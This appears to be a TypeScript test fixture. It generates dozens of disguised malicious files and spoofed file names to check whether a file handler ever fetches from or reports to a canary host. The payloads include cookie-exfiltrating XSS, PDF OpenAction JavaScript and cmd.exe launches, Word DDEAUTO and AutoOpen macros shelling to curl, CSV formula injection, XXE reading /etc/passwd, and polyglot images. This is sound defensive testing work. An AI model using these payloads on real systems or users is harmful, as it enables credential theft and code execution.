/** Files that are not what they seem. Whatever fetches something because of one of them tells a canary, under the file's number. */
import { zipOf } from '../search/zip.test-support.ts';

export interface TwoFaced {
  name: string;
  bytes: Buffer<ArrayBuffer>;
}

const bytes = (text: string, encoding: BufferEncoding = 'utf8'): Buffer<ArrayBuffer> => Buffer.from(text, encoding);

/** What they run in whatever takes them for a page. */
const script = (home: string): string =>
  `new Image().src='${home}/image?'+encodeURIComponent(document.cookie);try{fetch('${home}/fetch',{mode:'no-cors'})}catch(e){};try{localStorage.setItem('owned','1')}catch(e){};try{top.document.title='owned'}catch(e){}`;

const page = (home: string, head = ''): string =>
  `<!doctype html><html><head>${head}<title>a page</title><link rel="stylesheet" href="${home}/style"><link rel="prefetch" href="${home}/prefetch"><link rel="dns-prefetch" href="${home}"><meta http-equiv="refresh" content="1;url=${home}/refresh"><script>${script(home)}</script><script src="${home}/script"></script><style>@import url(${home}/import);@font-face{font-family:x;src:url(${home}/font)}body{background:url(${home}/background);font-family:x}</style></head><body onload="${script(home)}"><h1>shown</h1><img src="${home}/picture" onerror="${script(home)}"><iframe src="${home}/frame"></iframe><iframe srcdoc="<script>${script(home)}</script>"></iframe><object data="${home}/object"></object><embed src="${home}/embed"><video src="${home}/video" poster="${home}/poster"></video><form action="${home}/form"><input autofocus onfocus="${script(home)}"></form></body></html>`;

const svg = (home: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="${script(home)}"><script>${script(home)}</script><style>@import url(${home}/import);</style><rect width="90" height="60" fill="#0b6e6e"/><image xlink:href="${home}/picture" width="9" height="9"/><use xlink:href="${home}/use#a"/><foreignObject width="90" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/frame"></iframe></foreignObject><set attributeName="x" onbegin="${script(home)}"/></svg>`;

/** A PDF whose catalog has these actions. */
function pdfThat(entries: string): Buffer<ArrayBuffer> {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${entries}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/AA<</O<</S/JavaScript/JS(app.alert\\('opened'\\))>>>>>>`,
  ];
  let pdf = '%PDF-1.4\n';
  const offsets = objects.map((object, n) => {
    const at = pdf.length;
    pdf += `${n + 1} 0 obj${object}endobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const at = pdf.length;
  return bytes(
    `${pdf}xref\n0 4\n0000000000 65535 f \n${offsets.join('')}trailer<</Size 4/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`,
    'latin1',
  );
}

const office = 'http://schemas.openxmlformats.org';
/** A Word document whose template and picture are elsewhere, and which brings macros along. */
const word = (home: string): Buffer<ArrayBuffer> =>
  zipOf({
    '[Content_Types].xml': `<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
    '_rels/.rels': `<Relationships xmlns="${office}/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<w:document xmlns:w="${office}/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>shown</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "${home}/field" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="${office}/package/2006/relationships"><Relationship Id="t1" Type="${office}/officeDocument/2006/relationships/attachedTemplate" Target="${home}/template.dotm" TargetMode="External"/><Relationship Id="v1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
    'word/vbaProject.bin': `Sub AutoOpen()\nShell "curl ${home}/macro"\nEnd Sub`,
  });
const openDocument = (home: string): string =>
  `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:mimetype="application/vnd.oasis.opendocument.text" office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>shown</text:p><draw:frame><draw:image xlink:href="${home}/picture"/></draw:frame><text:section><text:section-source xlink:href="${home}/section.odt"/></text:section></office:text></office:body></office:document>`;
const mail = (home: string): string =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${home}/\r\n\r\n${page(home)}\r\n--b--\r\n`;
const styled = (home: string, inside: string): string =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home}/xsl"?><!DOCTYPE r [<!ENTITY away SYSTEM "${home}/entity"><!ENTITY file SYSTEM "file:///etc/passwd">]><r xmlns:h="http://www.w3.org/1999/xhtml">&away;&file;${inside}</r>`;
const utf7 = (text: string): string => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-');

/** `canary`: an origin. Each of them calls it at `/<number>/…`. */
export function twoFaced(canary: string): TwoFaced[] {
  const makers: [name: string, make: (home: string) => Buffer<ArrayBuffer> | string][] = [
    ['page.html', (home) => page(home)],
    ['old page.htm', (home) => page(home, '<base href="javascript:/*"><meta charset="gbk">')],
    ['strict page.xhtml', (home) => `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script(home).replaceAll('&', '&amp;')}</script></head><body><h1>shown</h1><img src="${home}/picture"/></body></html>`], // prettier-ignore
    ['utf-7 page.html', (home) => utf7(`<meta charset="utf-7">${page(home)}`)],
    ['declared utf-7.html', (home) => `<meta charset="utf-7">${utf7(page(home))}`],
    ['marked utf-16.html', (home) => Buffer.concat([bytes('fffe', 'hex'), bytes(page(home), 'utf16le')])],
    ['unmarked utf-16.html', (home) => bytes(page(home), 'utf16le')],
    ['marked text.txt', (home) => Buffer.concat([bytes('fffe', 'hex'), bytes(page(home), 'utf16le')])],
    ['unclosed.html', (home) => `<noscript><p title="</noscript><script>${script(home)}</script>"><math><mtext><table><mglyph><style><img src=x onerror="${script(home)}">`], // prettier-ignore
    ['drawing.svg', (home) => svg(home)],
    ['drawing as picture.png', (home) => svg(home)],
    ['two.png.svg', (home) => svg(home)],
    ['page as picture.png', (home) => page(home)],
    ['page as photo.jpg', (home) => Buffer.concat([bytes('ffd8ffe000104a46494600010100000100010000', 'hex'), bytes(page(home))])],
    ['drawn by others.png', (home) => `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 'url(${home}/mvg)'\npop graphic-context`],
    ['script in picture.gif', (home) => `GIF89a/*${'\0'.repeat(8)}*/=1;${script(home)}`],
    ['script in picture.js', (home) => `GIF89a/*${'\0'.repeat(8)}*/=1;${script(home)}`],
    ['page in picture.gif', (home) => Buffer.concat([bytes('GIF89a\u0001\0\u0001\0\0\0\0', 'latin1'), bytes(page(home))])],
    ['script.pdf', (home) => pdfThat(`/OpenAction<</S/JavaScript/JS(app.launchURL\\('${home}/pdf'\\))>>`)], // prettier-ignore
    ['launch.pdf', () => pdfThat('/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>')],
    ['calls home.pdf', (home) => pdfThat(`/OpenAction<</S/URI/URI(${home}/open)>>/AA<</WC<</S/SubmitForm/F(${home}/submit)>>>>`)],
    ['form.pdf', (home) => pdfThat(`/AcroForm<</XFA(<template><script>${home}</script></template>)/NeedAppearances true>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('${home}/xfa'\\))>>]>>>>`)], // prettier-ignore
    ['page in document.pdf', (home) => Buffer.concat([bytes(`%PDF-1.4\n%<!--\n`), bytes(`-->${page(home)}<!--`), pdfThat('')])],
    ['document in page.html', (home) => Buffer.concat([bytes(page(home)), pdfThat('')])],
    ['page in archive.zip', (home) => Buffer.concat([bytes(page(home)), zipOf({ 'a.html': page(home), '../../b.svg': svg(home) })])],
    ['archive in page.html', (home) => Buffer.concat([bytes(page(home)), zipOf({ 'a.html': page(home) })])],
    ['macros.docx', (home) => word(home)],
    ['macros.docm', (home) => word(home)],
    ['page as document.doc', (home) => page(home)],
    ['page as workbook.xls', (home) => `<html xmlns:x="urn:schemas-microsoft-com:office:excel">${page(home)}</html>`],
    ['fields.rtf', (home) => `{\\rtf1 shown {\\field{\\*\\fldinst INCLUDEPICTURE "${home}/rtf" \\\\d}}{\\*\\template ${home}/template}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}}`], // prettier-ignore
    ['events.odt', (home) => openDocument(home)],
    ['formulas.csv', (home) => `=cmd|' /C calc'!A0,=WEBSERVICE("${home}/csv"),<img src=x onerror="${script(home)}">\n@SUM(1),+1,-1\n`],
    ['mail.mht', (home) => mail(home)],
    ['mail.mhtml', (home) => mail(home)],
    ['styled.xml', (home) => styled(home, '<a/>')],
    ['scripted.xml', (home) => styled(home, `<h:script>${script(home).replaceAll('&', '&amp;')}</h:script>`)],
    ['values.json', (home) => `{"a":"</script><script>${script(home)}</script>"}`],
    ['notes.md', (home) => `# shown\n\n<script>${script(home)}</script><img src=x onerror="${script(home)}"> ![x](${home}/md) [away](javascript:top.document.title) <${home}/auto>\n\n\`\`\`mermaid\ngraph TD;a[<img src=x onerror="${script(home)}">]\n\`\`\`\n`], // prettier-ignore
    ['invoice.pdf.html', (home) => page(home)],
    ['report.html.txt', (home) => page(home)],
    ['subtitles.srt', (home) => `1\n00:00:00,000 --> 00:00:09,000\n<font onload="${script(home)}"><script>${script(home)}</script>\n`],
    ['list.mp4', (home) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n${home}/segment\n#EXT-X-ENDLIST\n`],
    ['list.avi', (home) => `ffconcat version 1.0\nfile '${home}/concat'\nfile 'file:///etc/passwd'\n`],
    ['shortcut.url', (home) => `[InternetShortcut]\r\nURL=${home}/url\r\nIconFile=${home}/icon\r\n`],
    ['application.hta', (home) => page(home)],
    ['README', (home) => page(home)],
  ];
  return makers.map(([name, make], n) => {
    const made = make(`${canary}/${n}`);
    return { name, bytes: typeof made === 'string' ? bytes(made) : made };
  });
}

/** Names that say something else than they look like. */
export const misleadingNames = [
  'invoice\u202efdp.html',
  'a\u2066lmth.\u2069pdf',
  'zero\u200bwidth\u0000.html',
  'back\\slash.html',
  'colon:stream.html',
];
